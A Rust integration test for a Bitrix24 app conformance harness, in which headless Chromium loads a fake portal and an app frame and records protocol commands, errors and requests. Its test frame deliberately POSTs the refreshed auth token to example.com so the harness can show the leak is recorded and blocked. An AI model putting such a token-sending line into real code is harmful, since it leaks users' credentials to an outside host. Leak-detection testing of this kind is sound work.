//! The frame side in a real browser: headless Chromium opens the portal's page, which posts the
//! case's fields into the app's frame and answers the frame protocol; the browser side records
//! the frame's commands, console, exceptions, requests and a screenshot. Skipped (loudly) where
//! Chromium is missing; under CI=true a missing Chromium fails (.ci/run installs it).

use std::io::Write;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::extract::State;
use axum::response::Html;
use axum::routing::{get, post};
use b24_conform::browser::{Browser, FrameCase};
use serde_json::json;

mod common;

use common::chromium;

/// A frame written the way @bitrix24/b24jssdk's B24Frame talks to its parent
/// (packages/jssdk/src/loader-b24frame.ts, frame/message/controller.ts): it reads
/// `DOMAIN|PROTOCOL|APP_SID` from window.name, asks for its init data, then for fresh tokens,
/// sets its title to what the answers held, and posts its token to a host that is not loopback
/// (which the browser must not reach).
const FRAME: &str = r#"<!DOCTYPE html><html><body><p id="out">waiting</p><script>
var parts = window.name.split('|');
var origin = (parts[1] === '1' ? 'https' : 'http') + '://' + parts[0];
var sid = parts[2];
var text = '';
window.addEventListener('message', function (event) {
  if (event.origin !== origin) return;
  var i = event.data.indexOf(':');
  var key = event.data.slice(0, i);
  var data = JSON.parse(event.data.slice(i + 1));
  if (key === 'init1') {
    text = data.LANG + '/' + data.PLACEMENT_OPTIONS.ID + '/' + data.AUTH_ID;
    parent.postMessage('refreshAuth:refresh1:' + sid, origin);
  } else if (key === 'refresh1') {
    text += '/' + data.AUTH_ID;
    document.getElementById('out').textContent = text;
    parent.postMessage('setTitle:' + JSON.stringify({ title: text }) + ':title1:' + sid, origin);
    fetch('http://example.com/collect', { method: 'POST', body: 'token=' + data.AUTH_ID }).catch(function () {});
  }
});
parent.postMessage('getInitData:init1:' + sid, origin);
</script></body></html>"#;

/// The same frame with a defect: it throws before it asks for anything.
const THROWS: &str = r#"<!DOCTYPE html><html><body><script>
console.error('about to fail');
null.init();
</script></body></html>"#;

/// Starts `router` on a free loopback port and returns its origin.
async fn serve(router: Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, router).await });
    origin
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_portal_page_answers_get_init_data_and_records_the_commands() {
    let Some(executable) = chromium() else {
        return;
    };
    // The handler: what the form posted, and the two frames.
    let posted: Arc<Mutex<Vec<String>>> = Arc::default();
    let handler = serve(
        Router::new()
            .route(
                "/frame",
                post(|State(posted): State<Arc<Mutex<Vec<String>>>>, body: String| async move {
                    posted.lock().unwrap().push(body);
                    Html(FRAME)
                }),
            )
            .route("/throws", post(|| async { Html(THROWS) }))
            .with_state(posted.clone()),
    )
    .await;
    // The portal: its page for each case, from the portal's own origin (the frame posts to
    // `http://DOMAIN` and accepts answers only from there).
    let portal_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let domain = portal_listener.local_addr().unwrap().to_string();
    let case = |path: &str| FrameCase {
        frame_name: format!("{domain}|0|sid42"),
        handler_url: format!("{handler}/{path}"),
        fields: vec![
            ("AUTH_ID".into(), "token-1".into()),
            ("PLACEMENT".into(), "LANDING_SETTINGS".into()),
            ("PLACEMENT_OPTIONS".into(), r#"{"ID":"7"}"#.into()),
        ],
        init_data: json!({
            "AUTH_ID": "token-1", "REFRESH_ID": "refresh-1", "AUTH_EXPIRES": "3600",
            "DOMAIN": domain, "PROTOCOL": "0", "LANG": "en",
            "PLACEMENT": "LANDING_SETTINGS", "PLACEMENT_OPTIONS": { "ID": "7" },
        }),
        refresh_data: json!({ "AUTH_ID": "fresh-1", "REFRESH_ID": "fresh-refresh-1", "AUTH_EXPIRES": "3600" }),
    };
    let (good, bad) = (case("frame"), case("throws"));
    let portal = Router::new()
        .route("/good", get(move || async move { Html(b24_conform::browser::parent::page(&good)) }))
        .route("/bad", get(move || async move { Html(b24_conform::browser::parent::page(&bad)) }));
    tokio::spawn(async move { axum::serve(portal_listener, portal).await });
    let portal = format!("http://{domain}");

    let browser = Browser::launch(&executable, None).await.expect("Chromium starts");
    let budget = Duration::from_secs(10);
    let settle = Duration::from_millis(200);
    // Two cases at once, each in its own tab.
    let (good_url, bad_url) = (format!("{portal}/good"), format!("{portal}/bad"));
    let (good, bad) =
        tokio::join!(browser.open(&good_url, budget, settle), browser.open(&bad_url, Duration::from_secs(2), settle),);
    let good = good.expect("the good frame opens");
    let bad = bad.expect("the faulty frame opens");

    // The form posted the case's fields into the frame.
    let body = posted.lock().unwrap().first().cloned().expect("the form posted");
    assert!(body.contains("AUTH_ID=token-1"), "{body}");
    // The frame asked for its init data, the page answered, and the frame used the answer.
    let names: Vec<&str> = good.commands.iter().map(|c| c.command.as_str()).collect();
    assert_eq!(names, ["getInitData", "refreshAuth", "setTitle"], "{good:?}");
    let init = &good.commands[0];
    assert!(init.answered && init.app_sid == "sid42" && init.callback == "init1", "{init:?}");
    assert_eq!(init.origin, handler);
    // refreshAuth was answered with the case's fresh pair.
    assert_eq!(good.commands[2].params, r#"{"title":"en/7/token-1/fresh-1"}"#);
    // A host that is not loopback is never reached: the request fails at the dead proxy, and
    // the record keeps where it went and what it carried.
    let leak = good.requests.iter().find(|r| r.url.starts_with("http://example.com/")).expect("the leak is recorded");
    assert_eq!(leak.body.as_deref(), Some("token=fresh-1"), "{leak:?}");
    assert_eq!(leak.failed.as_deref(), Some("net::ERR_PROXY_CONNECTION_FAILED"), "{leak:?}");
    assert!(leak.status.is_none(), "{leak:?}");
    // The form's POST was answered.
    assert!(good.requests.iter().any(|r| r.method == "POST" && r.url.ends_with("/frame") && r.status == Some(200)));
    assert!(good.initialised());
    assert!(good.exceptions.is_empty() && good.console_errors.is_empty(), "{good:?}");
    assert!(good.screenshot.starts_with(b"\x89PNG"), "a PNG screenshot");

    // The faulty frame: its exception and console error are recorded, and it never initialised.
    assert!(bad.commands.is_empty() && !bad.initialised(), "{bad:?}");
    assert!(bad.exceptions.iter().any(|e| e.contains("TypeError")), "{bad:?}");
    assert_eq!(bad.console_errors, ["about to fail"]);

    // The cost of opening a frame: the median of 5, printed for the notes.
    let mut costs = Vec::new();
    for _ in 0..5 {
        let started = std::time::Instant::now();
        let record = browser.open(&good_url, budget, Duration::ZERO).await.expect("the good frame opens again");
        assert!(record.initialised());
        costs.push((started.elapsed(), Duration::from_millis(record.initialised_after_ms.unwrap_or_default())));
    }
    costs.sort();
    let _ = writeln!(
        std::io::stderr(),
        "frame open cost, median of 5: {:?} (initialised after {:?})",
        costs[2].0,
        costs[2].1
    );
    browser.close().await;
}
